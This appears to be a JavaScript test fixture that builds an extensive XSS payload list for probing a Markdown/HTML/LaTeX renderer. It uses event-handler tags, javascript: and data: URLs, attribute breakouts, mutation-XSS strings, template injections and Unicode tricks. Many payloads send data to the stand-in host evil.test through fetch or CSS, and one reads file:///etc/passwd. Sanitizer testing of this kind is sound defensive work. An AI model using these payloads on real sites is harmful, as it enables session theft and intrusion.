// Texts that try to become a script, a request or an element, made by rule: elements by handlers, addresses by the places where Markdown, HTML
// and LaTeX take one, ways out of attributes and elements, and what parsers, templates, JSON, styles and Unicode are known to turn into markup.
// Each says by its number which one got through: by a dialog, by the global `hit`, or by a request to evil.test.

const acts = [at => `alert(${at})`, at => `hit=${at}`, at => `fetch('//evil.test/${at}')`, at => `globalThis.hit=${at}`];

/** What stands between the parts of a tag: browsers take all of these. */
const gaps = [' ', '/', '\t', '\f', ' / ', '  '];
/** How a value is written. */
const quotes = [value => `"${value}"`, value => `'${value}'`, value => value.replaceAll(' ', ''), value => `"${value.replace('(', '&#40;')}"`];

const tags = [
  ['img', 'src=x'], ['svg', ''], ['svg', 'xmlns=http://www.w3.org/2000/svg'], ['body', ''], ['video', 'src=x autoplay'], ['audio', 'src=x'],
  ['input', 'autofocus'], ['select', 'autofocus'], ['textarea', 'autofocus'], ['button', 'autofocus'], ['details', 'open'], ['marquee', ''],
  ['object', 'data=x'], ['embed', 'src=x'], ['iframe', 'src=about:blank'], ['style', ''], ['link', 'rel=stylesheet href=x'], ['a', 'href=# autofocus'],
  ['math', 'tabindex=1 autofocus'], ['div', 'contenteditable autofocus'], ['x-y', 'tabindex=1 autofocus'], ['form', 'action=x'], ['table', 'background=x'],
  ['keygen', 'autofocus'], ['script', 'src=x'], ['meta', 'http-equiv=refresh content=0'], ['isindex', 'type=image src=x'], ['image', 'src=x'],
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerrawupdate', 'onanimationstart', 'oNcLiCk', 'onmouseover'];

const schemes = [
  act => `javascript:${act}`, act => `JaVaScRiPt:${act}`, act => `java\tscript:${act}`, act => `java\nscript:${act}`, act => ` javascript:${act}`,
  act => `\u0001javascript:${act}`, act => `javascript&colon;${act}`, act => `javascript&#58;${act}`, act => `&#106;avascript:${act}`,
  act => `&#x6A avascript:${act}`, act => `java&Tab;script:${act}`, act => `java&NewLine;script:${act}`, act => `javascript://%0a${act}`,
  act => `javascript:/*http://a.test/*/${act}`, act => `vbscript:${act}`, act => `livescript:${act}`, act => `feed:javascript:${act}`,
  act => `view-source:javascript:${act}`, act => `data:text/html,<script>${act}</script>`,
  act => `data:text/html;base64,${btoa(`<script>${act}</script>`)}`, act => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
  act => `blob:null/${act}`, act => `filesystem:http://evil.test/${act}`, act => `//evil.test/?${act}`, act => `\\\\evil.test\\${act}`,
  act => `%6a%61vascript:${act}`, act => `ws://evil.test/${act}`, () => 'file:///etc/passwd',
];
const places = [
  to => `[x](${to})`, to => `![x](${to})`, to => `<${to}>`, to => `[x](<${to}> "t")`, to => `[x][r]\n\n[r]: ${to}`, to => `[x]\n\n[x]: <${to}> 't'`,
  to => `<a href="${to}">x</a>`, to => `<u>${to}</u>`, to => `<img src='${to}'>`, to => `$\\href{${to}}{x}$`, to => `[![x](${to})](${to})`,
  to => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`, to => `<form><button formaction="${to}">x</button></form>`,
];

const shapes = [
  // Out of attributes, comments and elements.
  act => `" autofocus onfocus="${act}`, act => `' autofocus onfocus='${act}`, act => `"><img src=x onerror=${act}>`, act => `'><svg onload=${act}>`,
  ...['title', 'textarea', 'style', 'script', 'noscript', 'template', 'math', 'svg', 'pre', 'xmp', 'iframe', 'select', 'option', 'a', 'p', 'main', 'article', 'head']
    .map(name => act => `</${name}><script>${act}</script>`),
  act => `--><script>${act}</script>`, act => `]]><script>${act}</script>`, act => `?><script>${act}</script>`, act => `<!--><script>${act}</script>-->`,
  act => `<![CDATA[><script>${act}</script>]]>`, act => `<!DOCTYPE x [<!ENTITY a "<script>${act}</script>">]>&a;`,
  act => `\`\`\`html onclick=${act}\n<img src=x onerror=${act}>\n\`\`\``, act => `~~~"onmouseover=${act}\nx\n~~~`, act => `\`\` <img src=x onerror=${act}> \`\``,
  act => `    <script>${act}</script>`, act => `\`</code><script>${act}</script>\``,
  // Attributes that Markdown's extensions take.
  act => `# x {onclick=${act}}`, act => `[x](http://a.test){onclick=${act}}`, act => `**x**{onclick="${act}"}`, act => `![x](y){onerror=${act}}`,
  act => `\`\`\` js {onclick=${act}}\nx\n\`\`\``, act => `{onclick=${act}}\nx`, act => `x ^[<script>${act}</script>]`, act => `[^1]\n\n[^1]: <script>${act}</script>`,
  act => `:::x{onclick=${act}}\nx\n:::`, act => `|a|\n|-|\n|<img src=x onerror=${act}>|`, act => `- [ ] <svg onload=${act}>`, act => `x\n: <svg onload=${act}>`,
  act => `<a id="x" onfocus="${act}" autofocus>`, act => `<a id='x'onclick='${act}'></a>`, act => `<a id="x"></a><script>${act}</script>`,
  act => `<a id="constructor"></a><a id="hit"></a><script>${act}</script>`, act => `<u>http://a.test" onmouseover="${act}</u>`, act => `![x" onerror="${act}](/v1/papers/x/figures/y)`,
  act => `![x](/v1/papers/x/figures/y"onerror="${act})`, act => `![x](/v1/papers/../../page?${act})`, act => `[x](# "onclick=${act}")`, act => `[x](http://a.test/"onmouseover="${act})`,
  act => `<http://a.test/"onmouseover="${act}>`, act => `<a@b.test"onmouseover="${act}>`, act => `[x](mailto:a@b.test?"onmouseover="${act})`,
  // What changes when it is parsed a second time or in another namespace.
  act => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  act => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  act => `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`, act => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  act => `<svg><style><img src=x onerror=${act}></style></svg>`, act => `<math><annotation-xml encoding="text/html"><img src=x onerror=${act}></annotation-xml></math>`,
  act => `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`, act => `<svg><desc><img src=x onerror=${act}></desc></svg>`,
  act => `<svg><animate onbegin=${act} attributeName=x dur=1s>`, act => `<svg><set onbegin=${act} attributename=x to=1>`,
  act => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${act}'/></svg>#x"/></svg>`,
  act => `<math href="javascript:${act}">x</math>`, act => `<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:${act}">x</maction></math>`,
  act => `<template><script>${act}</script></template>`, act => `<div><template shadowrootmode=open><script>${act}</script></template></div>`,
  act => `<xmp><img src=x onerror=${act}></xmp>`, act => `<plaintext><img src=x onerror=${act}>`, act => `<listing>&lt;img src=x onerror=${act}&gt;</listing>`,
  act => `<select><template><img src=x onerror=${act}></template></select>`, act => `<table><td><form><input form=x><img src=x onerror=${act}></table>`,
  act => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`, act => `<object data="data:text/html,<script>${act}</script>"></object>`,
  act => `<frameset onload=${act}>`, act => `<base href="//evil.test/${act}/">`, act => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  act => `<form id=x></form><button form=x formaction="javascript:${act}">x</button>`, act => `<p popover id=p onbeforetoggle=${act}>x</p><button popovertarget=p>y</button>`,
  // Templates, and text that becomes a part of JSON or of a script.
  act => `{{constructor.constructor('${act}')()}}`, act => `{{{"<img src=x onerror=${act}>"}}}`, act => `\${${act}}`, act => `#{${act}}`, act => `<%= ${act} %>`,
  act => `{% raw %}<script>${act}</script>{% endraw %}`, act => `[[${act}]]`, act => `{{#each this}}<script>${act}</script>{{/each}}`, act => `{{lookup this "constructor"}}${act}`,
  act => `"}],"x":"<script>${act}</script>`, act => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, act => `\\"};${act};//`, act => `';${act};'`, act => `\u2028${act}\u2029`,
  act => `{"__proto__":{"innerHTML":"<img src=x onerror=${act}>"}}`, act => `*/${act}/*`, act => `\`+${act}+\``,
  // Styles.
  act => `<div style="background:url(//evil.test/${act})">x</div>`, act => `<style>@import '//evil.test/${act}';</style>`, act => `<div style="width:expression(${act})">x</div>`,
  act => `<style>*{background:url("javascript:${act}")}</style>`, act => `<div style="-moz-binding:url(//evil.test/${act})">x</div>`, act => `<link rel=stylesheet href="//evil.test/${act}">`,
  act => `<link rel=prefetch href="//evil.test/${act}">`, act => `<img srcset="//evil.test/${act} 1x">`, act => `<picture><source srcset="//evil.test/${act}"><img></picture>`,
  act => `<video poster="//evil.test/${act}">`, act => `<input type=image src="//evil.test/${act}">`, act => `<track src="//evil.test/${act}">`, act => `<a href=http://a.test ping="//evil.test/${act}">x</a>`,
  act => `![x](http://evil.test/${act}.png)`, act => `![x](//evil.test/${act}.png)`, act => `![x][r]\n\n[r]: http://evil.test/${act}.png`,
  // Unicode, codes and gaps.
  act => `<scr\0ipt>${act}</scr\0ipt>`, act => `<\0script>${act}</script>`, act => `<img\u00a0src=x\u00a0onerror=${act}>`, act => `\uff1cscript\uff1e${act}\uff1c/script\uff1e`,
  act => `<\u017fcript>${act}</\u017fcript>`, act => `<\u0131mg src=x onerror=${act}>`, act => `%3Cscript%3E${act}%3C/script%3E`, act => `&lt;script&gt;${act}&lt;/script&gt;`,
  act => `&amp;lt;script&amp;gt;${act}&amp;lt;/script&amp;gt;`, act => `&#60;img src=x onerror=${act}&#62;`, act => `&#x3c;svg onload=${act}&#x3e;`, act => `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  act => `\ufeff<script>${act}</script>`, act => `\u202e<script>${act}</script>`, act => `<scr<script>ipt>${act}</scr</script>ipt>`, act => `<SCRIPT\n>${act}</SCRIPT\t>`,
  act => `<<script>${act}//<</script>`, act => `<img src=x onerror\n=\n${act}>`, act => `<svg/onload=${act}`, act => `<script>${act}`, act => `\u200b<svg onload=${act}>`, act => `\u{e003c}<svg onload=${act}>`,
  // Formulas and LaTeX.
  act => `$\\text{<img src=x onerror=${act}>}$`, act => `$\\unicode{<script>${act}</script>}$`, act => `\\url{javascript:${act}}`, act => `$\\class{x" onclick="${act}}{y}$`,
  act => `$\\htmlData{x=<img onerror=${act}>}{y}$`, act => `$\\style{background:url(//evil.test/${act})}{y}$`, act => `\\includegraphics{//evil.test/${act}}`, act => `$\\cssId{hit}{<svg onload=${act}>}$`,
  act => `$$</math><script>${act}</script>$$`, act => `\\(<mtext><img src=x onerror=${act}></mtext>\\)`, act => `$\\mathrm{"><svg onload=${act}>}$`, act => `$x_{<style>@import"//evil.test/${act}"}$`,
];

/** All of them, each once. */
export const payloads = (() => {
  const all = [];
  const add = make => all.push(make(acts[all.length % acts.length](all.length), all.length));
  for (const [name, attribute] of tags) {
    for (const handler of handlers) {
      add((act, at) => {
        const gap = gaps[at % gaps.length];
        return `<${at % 3 ? name : name.toUpperCase()}${gap}${attribute.replaceAll(' ', gap === '/' ? '/' : ' ')}${gap}${handler}=${quotes[at % quotes.length](act)}>`;
      });
    }
  }
  for (const scheme of schemes) for (const place of places) add(act => place(scheme(act)));
  for (const shape of shapes) add(shape);
  return [...new Set(all)];
})();

/** Those without the character of number 0, which the surface refuses in JSON; what is imported is cleaned of it. */
export const sent = payloads.filter(text => !text.includes('\0'));

/** All of them, some at a time, for texts that have room for more than one. */
export const bundles = Array.from({ length: Math.ceil(sent.length / 7) }, (_, at) => sent.slice(7 * at, 7 * at + 7));
